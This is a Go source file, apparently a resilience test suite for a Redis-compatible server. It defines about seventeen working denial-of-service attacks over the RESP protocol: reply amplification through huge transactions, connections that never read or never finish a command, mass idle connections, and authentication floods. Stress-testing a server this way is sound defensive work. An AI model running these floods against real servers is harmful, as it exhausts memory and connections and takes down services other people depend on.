package hostile

import (
	"context"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
)

// Command returns a command as RESP writes it.
func Command(words ...string) string {
	var b strings.Builder
	fmt.Fprintf(&b, "*%d\r\n", len(words))
	for _, w := range words {
		fmt.Fprintf(&b, "$%d\r\n%s\r\n", len(w), w)
	}
	return b.String()
}

// RESP returns the attacks on the Redis door. Those on a server with API keys
// have one, unless they are said to come from strangers.
func RESP() []Attack {
	return []Attack{
		{
			"resp-names", "a name of 1 MiB, told 2,200 times in one transaction: 2.2 GB of reply for 1.1 MiB",
			known(4, Command("CLIENT", "SETNAME", strings.Repeat("n", 1<<20-64))+transaction(2200, Command("CLIENT", "INFO"))),
		},
		{
			"resp-command-info", "7 MB of names to describe in one command: up to 1 GB of reply",
			known(4, commandInfo(7<<20)),
		},
		{
			"resp-descriptions", "100,000 names to describe in each command, and the same in transactions: 100 MB of reply for 1.3 MB",
			known(16, commandInfo(1300<<10)+transaction(4, commandInfo(1300<<10))),
		},
		{
			"resp-client-list", "500 connections, described 1,000 times in one transaction: 150 MB of reply for 30 KB",
			clientList(500, 1000),
		},
		{
			"resp-amplify", "pipelines of the commands whose replies are much longer than they are",
			known(64, strings.Repeat("COMMAND\r\nCOMMAND DOCS\r\nINFO\r\nCONFIG GET *\r\nCLIENT LIST\r\nCLIENT INFO\r\nINFO commandstats\r\n", 500)),
		},
		{
			"resp-after-write", "the same behind a write that is not durable yet, so that replies wait in a batch",
			known(64, strings.Repeat(Command("INCR", "hostile:pending")+strings.Repeat("COMMAND\r\nCOMMAND DOCS\r\nTIME\r\n", 20), 100)),
		},
		{
			"resp-never-reads", "long replies asked for on 500 connections, and never read",
			neverReads(500, strings.Repeat("COMMAND DOCS\r\n", 1000)),
		},
		{
			"resp-watch", "1,000 long keys watched on each of 500 connections, and long names of libraries",
			watchers(500),
		},
		{
			"resp-half", "most of a long command, and never its end, on 500 connections",
			neverReads(500, "*9\r\n"+strings.Repeat("$1048576\r\n"+strings.Repeat("x", 1<<20)+"\r\n", 2)),
		},
		{
			"resp-multi", "transactions of 100,000 commands, executed or given up",
			known(16, transaction(100_000, Command("ECHO", "hostile"))+Command("DISCARD")),
		},
		{
			"resp-mget", "10,000 long keys read, again and again, in transactions and pipelines",
			known(8, mget(4000, 500)+transaction(16, mget(1000, 500))),
		},
		{
			"resp-scan", "the whole namespace scanned by 64 at a time, with patterns that match late",
			known(64, strings.Repeat(Command("SCAN", "0", "COUNT", "10000", "MATCH", "*a*b*c*d*")+Command("KEYS", "*a*b*c*d*"), 20)),
		},
		{
			"resp-unknown", "pipelines of commands that do not exist, and of subscriptions",
			known(64, strings.Repeat("NO\r\nSUBSCRIBE x\r\nPSUBSCRIBE *\r\nLCS a b\r\nEVAL x 0\r\n", 2000)),
		},
		{
			"resp-kill", "pipelines of commands that look at every connection",
			known(32, strings.Repeat(Command("CLIENT", "KILL", "ID", "9223372036854775807")+Command("CLIENT", "LIST", "ID", "1"), 1000)),
		},
		{
			"resp-silent-strangers", "connections that never say anything",
			strangers(2000, ""),
		},
		{
			"resp-half-strangers", "connections that say half of what a stranger may",
			strangers(2000, "*10\r\n"+strings.Repeat("$16000\r\n"+strings.Repeat("x", 16_000)+"\r\n", 9)),
		},
		{
			"resp-login-flood", "pipelines of wrong keys and handshakes, from strangers",
			flood(200, strings.Repeat(Command("AUTH", "wrong")+Command("HELLO", "3", "AUTH", "default", strings.Repeat("w", 1000))+"HELLO 3\r\n", 500)),
		},
	}
}

// login sends the target's key, if it has one.
func login(c net.Conn, t Target) error {
	if t.Key == "" {
		return nil
	}
	_, err := io.WriteString(c, Command("AUTH", t.Key))
	return err
}

// flood sends the same again and again, on n connections, and reads whatever comes.
func flood(n int, raw string) func(context.Context, Target) error {
	return func(ctx context.Context, t Target) error {
		return crowd(ctx, t.RESP, n, func(ctx context.Context, c net.Conn) error { return repeat(ctx, c, raw) })
	}
}

// known is flood by attackers that have a key.
func known(n int, raw string) func(context.Context, Target) error {
	return func(ctx context.Context, t Target) error {
		return crowd(ctx, t.RESP, n, func(ctx context.Context, c net.Conn) error {
			if err := login(c, t); err != nil {
				return err
			}
			return repeat(ctx, c, raw)
		})
	}
}

// repeat sends the same again and again on one connection, and drops the replies.
func repeat(ctx context.Context, c net.Conn, raw string) error {
	var wg sync.WaitGroup
	wg.Go(func() {
		_, _ = io.Copy(io.Discard, c) // until the server closes it, or ctx ends
		_ = c.Close()
	})
	defer wg.Wait()
	defer func() { _ = c.Close() }()
	for ctx.Err() == nil {
		if _, err := io.WriteString(c, raw); err != nil {
			return err
		}
	}
	return ctx.Err()
}

// neverReads sends what it has, on n connections, and reads no reply.
func neverReads(n int, raw string) func(context.Context, Target) error {
	return func(ctx context.Context, t Target) error {
		return crowd(ctx, t.RESP, n, func(ctx context.Context, c net.Conn) error {
			if tcp, ok := c.(*net.TCPConn); ok {
				_ = tcp.SetReadBuffer(4096)
			}
			if err := login(c, t); err != nil {
				return err
			}
			if _, err := io.WriteString(c, raw); err != nil {
				return err
			}
			return hold(ctx, c, "\r\n")
		})
	}
}

// strangers opens n connections, sends what it has, and stays.
func strangers(n int, raw string) func(context.Context, Target) error {
	return func(ctx context.Context, t Target) error {
		return crowd(ctx, t.RESP, n, func(_ context.Context, c net.Conn) error {
			if _, err := io.WriteString(c, raw); err != nil {
				return err
			}
			_, err := io.Copy(io.Discard, c)
			return err
		})
	}
}

// watchers watch as much as they may, call themselves long names, and stay.
func watchers(n int) func(context.Context, Target) error {
	var raw strings.Builder
	for i := range 10 {
		keys := []string{"WATCH"}
		for j := range 100 {
			keys = append(keys, fmt.Sprintf("%0*d", 500, i*100+j))
		}
		raw.WriteString(Command(keys...))
	}
	long := strings.Repeat("n", 1<<20-64)
	raw.WriteString(Command("CLIENT", "SETINFO", "lib-name", long) + Command("CLIENT", "SETINFO", "lib-ver", long))
	return neverReads(n, raw.String())
}

// clientList has idle connections described, again and again, by a few others.
func clientList(idle, times int) func(context.Context, Target) error {
	return func(ctx context.Context, t Target) error {
		var wg sync.WaitGroup
		defer wg.Wait()
		wg.Go(func() { _ = neverReads(idle, "")(ctx, t) })
		return known(4, transaction(times, Command("CLIENT", "LIST")))(ctx, t)
	}
}

// transaction returns a command so many times, between MULTI and EXEC.
func transaction(n int, command string) string {
	return Command("MULTI") + strings.Repeat(command, n) + Command("EXEC")
}

// commandInfo asks for the longest description again and again.
func commandInfo(size int) string {
	const word = "$7\r\ncommand\r\n"
	n := size / len(word)
	return fmt.Sprintf("*%d\r\n$7\r\nCOMMAND\r\n$4\r\nINFO\r\n%s", n+2, strings.Repeat(word, n))
}

// mget reads n keys of a length.
func mget(n, length int) string {
	words := []string{"MGET"}
	for i := range n {
		words = append(words, fmt.Sprintf("%0*d", length, i))
	}
	return Command(words...)
}
